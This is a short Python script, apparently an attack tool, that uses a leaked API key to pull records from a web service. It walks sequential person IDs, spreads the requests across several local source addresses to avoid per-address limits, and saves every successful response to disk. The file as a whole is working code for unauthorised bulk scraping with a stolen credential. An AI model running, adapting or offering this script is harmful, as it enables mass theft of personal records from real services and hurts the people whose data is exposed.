"""A leaked key of the interface, in HTTPX: several at once, from several addresses, id after id: leaked.py JOB.json."""

from __future__ import annotations

import asyncio
import json
import sys
import time
from pathlib import Path

import httpx

JOB = json.loads(Path(sys.argv[1]).read_text("utf-8"))
UNTIL = time.monotonic() + JOB["seconds"]
HANDS = len(JOB["addresses"])
ENOUGH = 25
"""Refusals in a row after which one of them gives up."""


def keep(person: int, body: bytes) -> None:
    """Keep what came."""
    Path(JOB["out"], f"{person}").write_bytes(body)


async def hand(number: int) -> None:
    """Be one of those who have the key: every so many-th person."""
    refused = 0
    async with httpx.AsyncClient(
        base_url=JOB["url"],
        headers={"X-Api-Key": f"kettle-{JOB['key']}"},
        transport=httpx.AsyncHTTPTransport(local_address=JOB["addresses"][number]),
        timeout=60,
    ) as client:
        for person in range(2 + number, JOB["people"] + 2, HANDS):
            if time.monotonic() > UNTIL or refused > ENOUGH:
                return
            answer = await client.get(JOB["route"].format(person))
            refused = 0 if answer.status_code == 200 else refused + 1
            if answer.status_code == 200:
                keep(person, answer.content)


async def main() -> None:
    """Let all of them loose."""
    await asyncio.gather(*map(hand, range(HANDS)))


asyncio.run(main())
